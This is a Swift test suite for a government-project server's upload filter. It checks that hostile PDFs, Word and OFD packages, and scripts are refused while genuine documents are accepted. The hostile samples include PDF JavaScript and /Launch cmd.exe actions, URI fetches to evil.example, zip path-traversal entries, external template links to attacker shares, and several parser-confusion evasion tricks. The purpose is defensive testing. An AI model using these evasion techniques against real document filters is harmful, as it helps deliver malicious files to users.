import Foundation
import Testing
import Vapor
import ZhengxinCore

@testable import ZhengxinServer

/// Upload types are named from the whole content by libmagic and checked for what libmagic does
/// not judge (polyglots, markup, scripts): each hostile sample is refused with 415, each real
/// document of an accepted type is stored with the type read from it.
@Suite("Document type sniffing")
struct DocumentTypeSniffingTests {
    static let accepted: [(label: String, bytes: Data, type: String)] = [
        ("PDF", SampleDocuments.pdf(), "application/pdf"),
        ("Word (docx)", SampleDocuments.docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("OFD", SampleDocuments.ofd(), "application/ofd"),
        ("PNG", SampleDocuments.png(), "image/png"),
        ("JPEG", SampleDocuments.jpeg(), "image/jpeg"),
        ("UTF-8 Chinese text", SampleDocuments.chineseText, "text/plain; charset=utf-8"),
        // libmagic's DOS COM rule calls text starting with byte E9 (郑 is E9 83 91) an executable.
        ("text starting with 郑", Data("郑州市人民政府办公厅\n".utf8), "text/plain; charset=utf-8"),
        ("rm -rf / as prose", Data("运维手册: 切勿执行 rm -rf / 命令。\n".utf8), "text/plain; charset=utf-8"),
        ("comparisons in prose", Data("若 x<a 且 b>c, 则 a < b; 金额<100万元。".utf8), "text/plain; charset=utf-8"),
        ("CSV", Data("项目,金额(元)\n全民健康信息平台,1000000\n".utf8), "text/plain; charset=utf-8"),
    ]

    @Test("libmagic and the structural checks: each hostile sample refused, each real document accepted")
    func verdicts() {
        for sample in SampleDocuments.hostile {
            guard case .failure(let refusal) = DocumentSniffer.verdict(of: sample.bytes) else {
                Issue.record("\(sample.label): accepted")
                continue
            }
            #expect(!refusal.reason.isEmpty, "\(sample.label)")
        }
        for sample in Self.accepted {
            #expect(
                DocumentSniffer.contentType(of: sample.bytes) == sample.type,
                "\(sample.label): \(DocumentSniffer.verdict(of: sample.bytes))")
        }
    }

    @Test(
        "uploads: hostile samples 415 with the reason, nothing stored; real documents 201 with the type read from them",
        arguments: Backend.all)
    func uploads(_ backend: Backend) async throws {
        try await TestWorld.with(backend) { world in
            var w = Walk(world)
            try await w.create(Walk.draft(yuan: 1_000_000))
            let before = try await HostileInputTests.state(world, w.projectId)
            for sample in SampleDocuments.hostile {
                // The claimed type and name are ignored; the bytes decide.
                let reply = try await HostileInputTests.upload(
                    world, w.projectId, filename: "report.pdf", bytes: sample.bytes, type: "application/pdf")
                HostileInputTests.expectRefused(reply, sample.label, status: .unsupportedMediaType)
                #expect(reply.errorCode == "UNSUPPORTED_DOCUMENT_TYPE", "\(sample.label)")
                #expect(reply.violations.first?["field"] as? String == "file", "\(sample.label): the reason names the file")
            }
            HostileInputTests.expectSame(before, try await HostileInputTests.state(world, w.projectId), "state after hostile uploads")
            for (i, sample) in Self.accepted.enumerated() {
                let reply = try await HostileInputTests.upload(world, w.projectId, filename: "文档\(i)", bytes: sample.bytes)
                #expect(reply.status == .created, "\(sample.label): \(reply.status) \(reply.violations)")
                let doc = (reply.project["documents"] as? [[String: Any]])?.last
                #expect(doc?["contentType"] as? String == sample.type, "\(sample.label)")
                let download = try await world.app.testing().sendRequest(
                    .GET, "/api/v1/projects/\(w.projectId)/documents/\(i + 1)",
                    headers: ["Authorization": "Bearer \(world.tokens["unitA"]!)"])
                #expect(Data(buffer: download.body) == sample.bytes, "\(sample.label)")
                #expect(download.headers.first(name: .contentType) == sample.type)
            }
        }
    }

    @Test("a document's name ends in its type's extension: text named 合同.js is stored and served as 合同.js.txt")
    func namesFitTheirType() {
        let text = DocumentSniffer.plainText
        let pdf = "application/pdf"
        for (name, type, fitted) in [
            ("合同.js", text, "合同.js.txt"), ("run.bat", text, "run.bat.txt"), ("x.url", text, "x.url.txt"), ("预算.csv", text, "预算.csv.txt"),
            ("纪要.html", text, "纪要.html.txt"), ("a.txt:evil.js", text, "a.txt:evil.js.txt"), ("a.js.", text, "a.js..txt"),
            (".txt", text, ".txt.txt"),
            ("会议纪要", text, "会议纪要.txt"), ("说明.TXT", text, "说明.TXT"), ("报告.PDF", pdf, "报告.PDF"), ("报告.txt", pdf, "报告.txt.pdf"),
            ("照片.jpeg", "image/jpeg", "照片.jpeg"), ("照片.png", "image/jpeg", "照片.png.jpg"), ("x", "application/unknown", "x.bin"),
        ] {
            #expect(DocumentFilename.fitted(name, contentType: type) == fitted, "\(name) as \(type)")
        }
        // Documents stored under the types of before libmagic are named by what their bytes are now.
        let ole = Data([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1])
        #expect(DocumentFilename.servedType("application/zip", bytes: SampleDocuments.docx()) == Self.accepted[1].type)
        #expect(DocumentFilename.servedType("application/msword", bytes: ole) == "application/octet-stream")
        #expect(
            DocumentFilename.fitted("预算.xls", contentType: DocumentFilename.servedType("application/msword", bytes: ole)) == "预算.xls.bin")
        #expect(DocumentFilename.servedType("application/pdf", bytes: Data()) == "application/pdf")
        let longest = String(repeating: "长", count: 251) + ".txt"
        #expect(DocumentFilename.fitted(longest, contentType: "application/pdf") == String(repeating: "长", count: 251) + ".pdf")
    }

    @Test("an upload named against its content is stored and downloaded under its type's extension", arguments: Backend.all)
    func uploadNamesFitted(_ backend: Backend) async throws {
        try await TestWorld.with(backend) { world in
            var w = Walk(world)
            try await w.create(Walk.draft(yuan: 1_000_000))
            let script = Data("var s=WScript.CreateObject(\"WScript.Shell\");\r\ns.Run(\"calc.exe\");\r\n".utf8)
            let reply = try await HostileInputTests.upload(world, w.projectId, filename: "合同.js", bytes: script)
            #expect(reply.status == .created, "\(reply.status) \(reply.violations)")
            let doc = (reply.project["documents"] as? [[String: Any]])?.last
            #expect(doc?["filename"] as? String == "合同.js.txt")
            let download = try await world.app.testing().sendRequest(
                .GET, "/api/v1/projects/\(w.projectId)/documents/1", headers: ["Authorization": "Bearer \(world.tokens["unitA"]!)"])
            let disposition = download.headers.first(name: .contentDisposition) ?? ""
            #expect(disposition.hasPrefix("attachment;") && disposition.hasSuffix("%2Ejs%2Etxt"), "\(disposition)")
        }
    }

    typealias H = HostileDocuments
    typealias Z = HostileDocuments.ZipEntry

    static func refusal(_ bytes: Data) -> DocumentSniffer.Refusal? {
        if case .failure(let refusal) = DocumentSniffer.verdict(of: bytes) { return refusal }
        return nil
    }

    static func ofdWithUnicodePath() -> Data {
        // Info-ZIP Unicode Path (0x7075): version 1, CRC-32 of the header name, then the name unzip uses.
        let second = Array("../../evil.html".utf8)
        let field =
            SampleDocuments.le16(0x7075) + SampleDocuments.le16(UInt16(5 + second.count)) + [1]
            + SampleDocuments.le32(SampleDocuments.crc32(Array("Doc_0/Res/a.png".utf8))) + second
        var entry = Z("Doc_0/Res/a.png", bytes: Array(SampleDocuments.png()))
        entry.extra = field
        return H.ofd([entry])
    }

    static func ofdWithLocalChecksum() -> Data {
        var entry = Z("Doc_0/Pages/Page_0/Content.xml", "<ofd:Page/>")
        entry.localCRC = 0
        return H.ofd([entry])
    }

    /// OFD and Office packages a reader would read otherwise than the directory says, or that
    /// bring in what a document must not: each with the code it is refused under.
    static var hostilePackages: [(label: String, bytes: Data, code: String)] {
        let ole: [UInt8] = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1] + [UInt8](repeating: 0, count: 56)
        let external =
            #"<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>"#
        let utf16: [UInt8] = [0xFF, 0xFE] + H.documentRels(external).utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
        return [
            ("OFD entry ../x", H.ofd([Z("../x", "x")]), "DOC-ZIP-ENTRY-NAME"),
            ("OFD entry Doc_0/../../evil.html", H.ofd([Z("Doc_0/../../evil.html", "<p>x</p>")]), "DOC-ZIP-ENTRY-NAME"),
            ("OFD entry climbing with %2e%2e", H.ofd([Z("Doc_0/%2e%2e/%2e%2e/evil.xml", "<x/>")]), "DOC-ZIP-ENTRY-NAME"),
            ("OFD entry with backslashes", H.ofd([Z(#"Doc_0\..\evil.xml"#, "<x/>")]), "DOC-ZIP-ENTRY-NAME"),
            ("OFD entry with a second name in an extra field", ofdWithUnicodePath(), "DOC-ZIP-ENTRY-NAME"),
            (
                "OFD with a second OFD.xml",
                H.zip([
                    Z("OFD.xml", H.ofdXML), Z("Doc_0/Document.xml", H.ofdDocument),
                    Z("OFD.xml", H.ofdXML.replacingOccurrences(of: "Doc_0", with: "Doc_1")),
                ]), "DOC-ZIP-DUPLICATE-ENTRY"
            ),
            ("OFD entries differing by case", H.ofd([Z("DOC_0/DOCUMENT.XML", H.ofdDocument)]), "DOC-ZIP-DUPLICATE-ENTRY"),
            ("OFD local header checksum unlike the directory's", ofdWithLocalChecksum(), "DOC-ZIP-STRUCTURE"),
            ("OFD with an SVG part", H.ofd([Z("Doc_0/Res/evil.svg", "<svg onload=alert(1)>")]), "DOC-OFD-ENTRY"),
            ("OFD with a file outside Doc_N", H.ofd([Z("readme.pdf", "%PDF-1.4")]), "DOC-OFD-ENTRY"),
            (
                "OFD with an attachment",
                H.ofd([
                    Z("Doc_0/Attachs/Attachments.xml", "<ofd:Attachments/>"),
                    Z("Doc_0/Attachs/plan.docx", bytes: Array(SampleDocuments.docx())),
                ]),
                "DOC-OFD-ATTACHMENT"
            ),
            ("Word with word/embeddings/oleObject1.bin", H.docx([Z("word/embeddings/oleObject1.bin", bytes: ole)]), "DOC-OFFICE-EMBEDDED"),
            ("Word with %-escaped embeddings", H.docx([Z("word/%65mbeddings/package1.bin", bytes: ole)]), "DOC-OFFICE-EMBEDDED"),
            (
                "Word with an external relationship (deflated .rels)",
                H.docx([Z("word/_rels/document.xml.rels", H.documentRels(external), deflated: true)]),
                "DOC-OFFICE-EXTERNAL"
            ),
            (
                "Word with an external relationship spelled with references",
                H.docx([
                    Z(
                        "word/_rels/document.xml.rels",
                        H.documentRels(
                            #"<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="&#104;ttp://evil.example/a.png" TargetMode='&#69;xternal'/>"#
                        ))
                ]),
                "DOC-OFFICE-EXTERNAL"
            ),
            (
                "Word with an external relationship in UTF-16", H.docx([Z("word/_rels/document.xml.rels", bytes: utf16, deflated: true)]),
                "DOC-OFFICE-EXTERNAL"
            ),
            (
                "Word with a file:// target",
                H.docx([
                    Z(
                        "word/_rels/document.xml.rels",
                        H.documentRels(
                            #"<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file://evil/share/a.png"/>"#
                        ))
                ]),
                "DOC-OFFICE-EXTERNAL"
            ),
            (
                "Word with an external relationship in the package .rels",
                H.zip([
                    Z("[Content_Types].xml", H.contentTypes),
                    Z("_rels/.rels", H.documentRels(external)), Z("word/document.xml", H.documentXML),
                ]),
                "DOC-OFFICE-EXTERNAL"
            ),
            (
                "Word with an OLE object relationship",
                H.docx([
                    Z(
                        "word/_rels/document.xml.rels",
                        H.documentRels(
                            #"<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="media/object.bin"/>"#
                        )),
                    Z("word/media/object.bin", bytes: ole),
                ]), "DOC-OFFICE-EMBEDDED"
            ),
            (
                "Word declared macro-enabled",
                H.docx(
                    [],
                    contentTypes: H.contentTypes.replacingOccurrences(
                        of: "wordprocessingml.document.main+xml", with: "wordprocessingml.document.macroEnabled.main+xml"
                    )
                    .replacingOccurrences(
                        of: "application/vnd.openxmlformats-officedocument.wordprocessingml.document.macroEnabled",
                        with: "application/vnd.ms-word.document.macroEnabled")),
                "DOC-OFFICE-MACRO"
            ),
            ("Word with ActiveX", H.docx([Z("word/activeX/activeX1.xml", "<ax:ocx/>")]), "DOC-OFFICE-MACRO"),
            (
                "Word with a chart workbook fetched from a share",
                H.docx([
                    Z(
                        "word/charts/_rels/chart1.xml.rels",
                        H.documentRels(
                            #"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/package" Target="\\attacker\s\d.xlsx" TargetMode="External"/>"#
                        ))
                ]),
                "DOC-OFFICE-EXTERNAL"
            ),
            (
                "Word with a relationship's target given twice",
                H.docx([
                    Z(
                        "word/_rels/document.xml.rels",
                        H.documentRels(
                            #"<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="\\evil\t.png" r:Target="media/image1.png"/>"#
                        ))
                ]),
                "DOC-OFFICE-STRUCTURE"
            ),
        ]
    }

    /// PDFs with active content, also behind `#xx` escapes and inside compressed object streams.
    static var hostilePDFs: [(label: String, bytes: Data, code: String)] {
        let script = "<< /S /JavaScript /JS (app.alert(1)) >>"
        return [
            (
                "PDF with /J#61vaScript",
                H.pdf(catalog: "/AA << /WC 5 0 R >> ", more: [Array("<< /S /J#61vaScript /J#53 (app.alert(1)) >>".utf8)]), "DOC-PDF-ACTIVE"
            ),
            (
                "PDF with /JavaScript in a zlib object stream", H.pdf(catalog: "/AA << /WC 20 0 R >> ", more: [H.objectStream([script])]),
                "DOC-PDF-ACTIVE"
            ),
            (
                "PDF with /Launch in an object stream without /Type",
                H.pdf(
                    catalog: "/AA << /WC 20 0 R >> ",
                    more: [H.objectStream(["<< /S /Launch /F (cmd.exe) >>"], type: false)]), "DOC-PDF-ACTIVE"
            ),
            (
                "PDF fetching an address on opening a page, in an object stream of indirect length",
                H.pdf(more: [
                    H.objectStream(["<< /Type /Page /AA << /O << /S /URI /URI (http://evil.example) >> >> >>"], indirectLength: true)
                ]), "DOC-PDF-ACTIVE"
            ),
            (
                "PDF with an object stream in an encoding not read", H.pdf(more: [H.objectStream([script], filter: "/ASCIIHexDecode")]),
                "DOC-PDF-OBJECT-STREAM"
            ),
            (
                "PDF with an object stream zlib cannot inflate",
                H.pdf(more: [
                    Array("<< /Type /ObjStm /N 1 /First 5 /Length 12 /Filter /FlateDecode >>\nstream\n".utf8)
                        + [0x78, 0x9C] + [UInt8](repeating: 0xFF, count: 10) + Array("\nendstream".utf8)
                ]),
                "DOC-PDF-OBJECT-STREAM"
            ),
            ("PDF with an action on opening", H.pdf(catalog: "/OpenAction << /S /Named /N /Print >> "), "DOC-PDF-ACTIVE"),
            (
                "PDF with an action on opening by reference",
                H.pdf(catalog: "/OpenAction 5 0 R ", more: [Array("<< /S /Named /N /Print >>".utf8)]), "DOC-PDF-ACTIVE"
            ),
            (
                "PDF with an action on opening packed in an object stream",
                H.pdf(catalog: "/OpenAction 20 0 R ", more: [H.objectStream(["<< /S /GoTo /D [3 0 R /Fit] /Next 21 0 R >>"])]),
                "DOC-PDF-ACTIVE"
            ),
            ("PDF opening at an object that is not there", H.pdf(catalog: "/OpenAction 77 0 R "), "DOC-PDF-ACTIVE"),
            (
                "PDF fetching an address on opening",
                H.pdf(catalog: "/AA << /WC 5 0 R >> ", more: [Array("<< /S /URI /URI (http://evil.example) >>".utf8)]), "DOC-PDF-ACTIVE"
            ),
            (
                "PDF with an embedded file",
                H.pdf(
                    catalog: "/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> ",
                    more: [Array("<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>".utf8)]), "DOC-PDF-ACTIVE"
            ),
            (
                "PDF with XFA",
                H.pdf(catalog: "/AcroForm << /Fields [] /XFA 5 0 R >> ", more: [Array("<< /Length 0 >>\nstream\n\nendstream".utf8)]),
                "DOC-PDF-ACTIVE"
            ),
            ("PDF with RichMedia", H.pdf(more: [Array("<< /Type /Annot /Subtype /RichMedia >>".utf8)]), "DOC-PDF-ACTIVE"),
            ("PDF with an unterminated string", H.pdf(catalog: "/Title (never closed "), "DOC-PDF-STRUCTURE"),
            (
                "PDF with a stream hidden inside what reads as a string",
                H.pdf(catalog: "/Title (x << /N 1 /First 4 /Length 9 >>\nstream\nAAAAAAAAA\nendstream) "),
                "DOC-PDF-STRUCTURE"
            ),
            ("PDF opening at an object also written with a leading zero", leadingZeroDecoy(), "DOC-PDF-ACTIVE"),
            (
                // The xref may point at an object written inside another stream's data, where two-letter
                // names pass unread: a page with an auto-run action, hidden so.
                "PDF with an object inside a stream's data",
                H.pdf(more: [
                    Array("<< /Length 52 >>\nstream\n3 0 obj\n<< /Type /Page /AA << /O 6 0 R >> >>\nendobj\n\nendstream".utf8)
                ]),
                "DOC-PDF-STRUCTURE"
            ),
            (
                "PDF with an object inside a stream's data, its header split by a comment",
                H.pdf(more: [hiddenObject("3 0 %x\nobj")]), "DOC-PDF-STRUCTURE"
            ),
            ("PDF with an object inside a stream's data, written 5 0obj", H.pdf(more: [hiddenObject("3 0obj")]), "DOC-PDF-STRUCTURE"),
            (
                "PDF with an object inside a stream's data, written 3 +0.0 obj", H.pdf(more: [hiddenObject("3 +0.0 obj")]),
                "DOC-PDF-STRUCTURE"
            ),
            ("PDF with an object inside a stream's data, written 3. -0 obj", H.pdf(more: [hiddenObject("3. -0 obj")]), "DOC-PDF-STRUCTURE"),
        ]
    }

    /// A stream whose data holds an object written with `header`: a page with an auto-run action.
    static func hiddenObject(_ header: String) -> [UInt8] {
        let data = "\(header)\n<< /Type /Page /AA << /O 6 0 R >> >>\nendobj\n"
        return Array("<< /Length \(data.utf8.count) >>\nstream\n\(data)\nendstream".utf8)
    }

    /// `/OpenAction 5 0 R` with a destination `5 0 obj [0]` inside a string as a decoy, while the
    /// object a viewer reads as 5 is written `05 0 obj` and prints.
    static func leadingZeroDecoy() -> Data {
        let pdf = H.pdf(catalog: "/OpenAction 5 0 R /Title (5 0 obj [0]) ", more: [Array("<< /S /Named /N /Print >>".utf8)])
        return Data(String(decoding: pdf, as: UTF8.self).replacingOccurrences(of: "\n5 0 obj\n", with: "\n05 0 obj\n").utf8)
    }

    /// Real documents these checks must still accept.
    static var acceptedStructures: [(label: String, bytes: Data, type: String)] {
        let png = Array(SampleDocuments.png())
        return [
            (
                "PDF with a clean zlib object stream",
                H.pdf(more: [H.objectStream(["<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", "<< /Producer (WPS) >>"])]),
                "application/pdf"
            ),
            ("PDF opening at its first page", H.pdf(catalog: "/OpenAction [3 0 R /Fit] "), "application/pdf"),
            (
                "PDF opening through a packed /GoTo action, as LaTeX writes it",
                H.pdf(catalog: "/OpenAction 20 0 R ", more: [H.objectStream(["<< /S /GoTo /D [3 0 R /Fit] >>"])]),
                "application/pdf"
            ),
            (
                "Word as Word writes it: deflated parts, an internal image relationship",
                H.docx([
                    Z(
                        "word/_rels/document.xml.rels",
                        H.documentRels(
                            #"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image1.png"/>"#
                        ), deflated: true),
                    Z("word/media/image1.png", bytes: png),
                ]),
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
            ),
            (
                "PDF with a link the reader clicks",
                H.pdf(more: [Array("<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://fgw.zhengzhou.gov.cn) >> >>".utf8)]),
                "application/pdf"
            ),
            (
                "Word with a hyperlink to a web address and a chart's workbook",
                H.docx([
                    Z(
                        "word/_rels/document.xml.rels",
                        H.documentRels(
                            #"<Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://fgw.zhengzhou.gov.cn/" TargetMode="External"/>"#
                        ), deflated: true),
                    Z(
                        "word/charts/_rels/chart1.xml.rels",
                        H.documentRels(
                            #"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/package" Target="../embeddings/Microsoft_Excel_Worksheet.xlsx"/>"#
                        )),
                    Z("word/embeddings/Microsoft_Excel_Worksheet.xlsx", bytes: Array(SampleDocuments.docx())),
                ]),
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
            ),
            (
                "OFD with a page, an image, a font and a signature",
                H.ofd([
                    Z("Doc_0/Pages/Page_0/Content.xml", "<ofd:Page/>", deflated: true), Z("Doc_0/Res/image_1.png", bytes: png),
                    Z("Doc_0/Res/font_1.ttf", bytes: [0, 1, 0, 0, 0, 0]), Z("Doc_0/Signs/Sign_0/SignedValue.dat", bytes: [0x30, 0x82]),
                ]),
                "application/ofd"
            ),
        ]
    }

    @Test("packages: entry names, duplicates, headers, OFD parts and Office macros, embedded objects and external relationships")
    func packages() {
        for sample in Self.hostilePackages {
            let refusal = Self.refusal(sample.bytes)
            #expect(refusal?.code == sample.code, "\(sample.label): \(refusal.map(\.description) ?? "accepted")")
            #expect(!(refusal?.reason.isEmpty ?? true), "\(sample.label)")
        }
        for sample in Self.acceptedStructures {
            #expect(
                DocumentSniffer.contentType(of: sample.bytes) == sample.type,
                "\(sample.label): \(DocumentSniffer.verdict(of: sample.bytes))")
        }
    }

    @Test("PDF: actions by escaped names, in compressed object streams, on opening; object streams that cannot be read")
    func pdfActiveContent() {
        for sample in Self.hostilePDFs {
            let refusal = Self.refusal(sample.bytes)
            #expect(refusal?.code == sample.code, "\(sample.label): \(refusal.map(\.description) ?? "accepted")")
        }
    }

    @Test(
        "uploads of hostile packages and PDFs: 415 with the refusal's code as the violation's rule, nothing stored", arguments: Backend.all)
    func hostileStructureUploads(_ backend: Backend) async throws {
        try await TestWorld.with(backend) { world in
            var w = Walk(world)
            try await w.create(Walk.draft(yuan: 1_000_000))
            let before = try await HostileInputTests.state(world, w.projectId)
            for sample in Self.hostilePackages + Self.hostilePDFs {
                let reply = try await HostileInputTests.upload(world, w.projectId, filename: "report.docx", bytes: sample.bytes)
                HostileInputTests.expectRefused(reply, sample.label, status: .unsupportedMediaType)
                #expect(reply.errorCode == "UNSUPPORTED_DOCUMENT_TYPE", "\(sample.label)")
                #expect(reply.ruleIds == [sample.code], "\(sample.label): \(reply.violations)")
                #expect(reply.violations.first?["field"] as? String == "file", "\(sample.label)")
            }
            HostileInputTests.expectSame(before, try await HostileInputTests.state(world, w.projectId), "state after hostile uploads")
            for (i, sample) in Self.acceptedStructures.enumerated() {
                let reply = try await HostileInputTests.upload(world, w.projectId, filename: "文档\(i)", bytes: sample.bytes)
                #expect(reply.status == .created, "\(sample.label): \(reply.status) \(reply.violations)")
                #expect((reply.project["documents"] as? [[String: Any]])?.last?["contentType"] as? String == sample.type, "\(sample.label)")
            }
        }
    }
}
